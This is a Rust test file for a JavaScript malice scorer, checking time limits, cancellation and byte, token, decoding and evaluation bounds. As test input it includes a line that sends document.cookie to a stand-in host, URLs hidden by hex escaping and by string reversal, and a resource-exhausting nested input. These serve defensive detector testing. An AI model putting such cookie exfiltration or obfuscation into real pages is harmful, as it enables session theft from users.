//! Limits that the caller sets, and scores that are given up: what is left out is told, and nothing half-made comes back.

use std::sync::Arc;
use std::sync::atomic::{AtomicBool, Ordering};
use std::time::{Duration, Instant};

use jsintegrity::{ErrorKind, Limit, Limits, ParseStatus, Scorer, Stage, Stop};

fn scorer() -> Scorer {
    Scorer::bundled().expect("the shipped model loads")
}

fn limited(set: impl FnOnce(&mut Limits)) -> Scorer {
    let mut limits = Limits::default();
    set(&mut limits);
    scorer().with_limits(limits)
}

/// Takes seconds and hundreds of megabytes to score whole.
fn hostile() -> Vec<u8> {
    b"a(".repeat(2 << 20)
}

#[test]
fn a_deadline_that_has_passed_stops_before_the_script_is_read() {
    for script in [Vec::new(), b"go()".to_vec(), hostile()] {
        let error = scorer().score_until(&script, &Stop::at(Instant::now())).unwrap_err();
        assert_eq!((error.kind(), error.stage()), (ErrorKind::OutOfTime, Some(Stage::Decoding)));
    }
}

#[test]
fn a_flag_that_is_up_stops_at_once_and_one_that_is_down_does_not() {
    let flag = Arc::new(AtomicBool::new(false));
    let stop = Stop::when(Arc::clone(&flag)).or_at(Instant::now() + Duration::from_secs(86_400));
    let script = b"fetch('//c.example/?' + document.cookie)";
    assert_eq!(scorer().score_until(script, &stop).unwrap(), scorer().score(script).unwrap());
    flag.store(true, Ordering::Relaxed);
    assert_eq!(scorer().score_until(script, &stop).unwrap_err().kind(), ErrorKind::Cancelled);
    // The scorer itself is none the worse for it.
    assert!(scorer().score(script).is_ok());
}

#[test]
fn a_flag_is_raised_while_a_hostile_script_is_scored() {
    let (scorer, script) = (scorer(), hostile());
    let (begun, flag) = (AtomicBool::new(false), Arc::new(AtomicBool::new(false)));
    let stop = Stop::when(Arc::clone(&flag));
    let error = std::thread::scope(|threads| {
        let scoring = threads.spawn(|| {
            begun.store(true, Ordering::Release);
            // However fast it is: sooner or later it is caught in the middle.
            loop {
                if let Err(error) = scorer.score_until(&script, &stop) {
                    return error;
                }
            }
        });
        while !begun.load(Ordering::Acquire) {
            std::thread::yield_now();
        }
        flag.store(true, Ordering::Relaxed);
        scoring.join().expect("scoring does not panic")
    });
    assert_eq!(error.kind(), ErrorKind::Cancelled);
    assert!(error.stage().is_some());
}

#[test]
fn bytes_beyond_the_limit_are_told_and_change_nothing() {
    let head = "go('ä');";
    let scorer = limited(|limits| limits.bytes = head.len());
    let report = |script: String| scorer.score(script.as_bytes()).unwrap();
    let (alone, with_more) = (report(head.to_owned()), report(format!("{head}fetch(document.cookie)")));
    assert_eq!((alone.limits, with_more.limits), (vec![], vec![Limit::Bytes]));
    assert_eq!((alone.scores, alone.findings), (with_more.scores, with_more.findings));
    // The hashes are those of the script, not of the part that was looked at.
    assert_ne!(alone.digests.sha256, with_more.digests.sha256);
}

#[test]
fn a_limit_inside_of_a_character_does_not_make_another_encoding_of_the_text() {
    let script = "get('https://ä.example/€/🦀')";
    for bytes in 0..script.len() {
        let report = limited(|limits| limits.bytes = bytes).score(script.as_bytes()).unwrap();
        assert_eq!(report.limits, [Limit::Bytes]);
        // In Latin-1 it would be "Ã¤".
        assert!(report.urls.iter().all(|url| !url.contains('Ã')), "{bytes}: {:?}", report.urls);
    }
}

#[test]
fn tokens_beyond_the_limit_are_not_read_nor_parsed() {
    let scorer = limited(|limits| limits.tokens = 8);
    let report = |script: &str| scorer.score(script.as_bytes()).unwrap();
    let whole = report("go(1);go(2)");
    assert_eq!((whole.limits, whole.parse), (vec![Limit::Tokens], ParseStatus::Lexical));
    let fits = report("go(1)");
    assert_eq!((fits.limits, fits.parse), (vec![], ParseStatus::Full));
    // Code in strings counts as well.
    let hidden = report("eval('go(1);a.src=b;c.d(e);f=g()+h(\"fetch\")')");
    assert_eq!(hidden.limits, [Limit::Tokens]);
    // What is behind the limit has no say, however deep it is nested.
    let deep = report(&format!("go(1);go(2);{}", "(".repeat(200_000)));
    assert_eq!((deep.limits, deep.parse), (vec![Limit::Tokens], ParseStatus::Lexical));
    let none = limited(|limits| limits.tokens = 0).score(b"go()").unwrap();
    assert_eq!(none.limits, [Limit::Tokens]);
}

/// Without a bound, 47 KB of gzip that unpack to 48 MB of `a;` took 2.8 GB.
#[test]
fn the_default_limits_bound_memory_too() {
    let limits = Limits::default();
    assert_eq!(limits.tokens, 1 << 24);
    assert_eq!(Limits::within_memory(4 << 30).tokens, limits.tokens);
    // Whoever has the memory may look at more.
    assert!(Limits::within_memory(8 << 30).tokens > limits.tokens);
}

#[test]
fn a_longer_script_than_is_parsed_is_scored_by_its_tokens() {
    let scorer = limited(|limits| limits.parsed_bytes = 8);
    assert_eq!(scorer.score(b"go(1, 2)").unwrap().parse, ParseStatus::Full);
    assert_eq!(scorer.score(b"go(1, 23)").unwrap().parse, ParseStatus::Lexical);
}

#[test]
fn decoding_and_evaluation_are_bounded() {
    let encoded =
        "x='\\x68\\x74\\x74\\x70\\x73\\x3a\\x2f\\x2f\\x63\\x2e\\x65\\x78\\x61\\x6d\\x70\\x6c\\x65\\x2f'";
    let report = limited(|limits| limits.decoded_bytes = 10).score(encoded.as_bytes()).unwrap();
    assert_eq!((report.limits, report.urls.len()), (vec![Limit::Decoding], 0));
    assert_eq!(scorer().score(encoded.as_bytes()).unwrap().urls, ["https://c.example/"]);

    let computed = "function f(n){var t='';for(var i=0;i<n.length;i++)t=n.charAt(i)+t;return t}get(f('/elpmaxe.c//:sptth'))";
    assert_eq!(scorer().score(computed.as_bytes()).unwrap().urls, ["https://c.example/"]);
    let report = limited(|limits| limits.evaluation_steps = 0).score(computed.as_bytes()).unwrap();
    assert_eq!(report.urls.len(), 0);
}

#[test]
fn other_limits_have_another_id_and_the_default_ones_the_model_s_own() {
    let usual = scorer();
    assert_eq!(usual.with_limits(Limits::default()).model_id(), usual.model_id());
    let ids: std::collections::BTreeSet<String> = [
        usual.clone(),
        limited(|limits| limits.bytes = 7),
        limited(|limits| limits.tokens = 7),
        limited(|limits| limits.parsed_bytes = 7),
        limited(|limits| limits.decoded_bytes = 7),
        limited(|limits| limits.evaluation_steps = 7),
    ]
    .iter()
    .map(|scorer| scorer.model_id().to_owned())
    .collect();
    assert_eq!(ids.len(), 6);
    let scorer = limited(|limits| limits.bytes = 7);
    assert_eq!(scorer.score(b"go()").unwrap().model, scorer.model_id());
    assert!(scorer.model_id().starts_with(usual.model_id()));
    // Other signatures keep the limits.
    let without = scorer.with_signatures(jsintegrity::Signatures::empty());
    assert_eq!((without.limits(), without.model_id()), (scorer.limits(), scorer.model_id()));
}
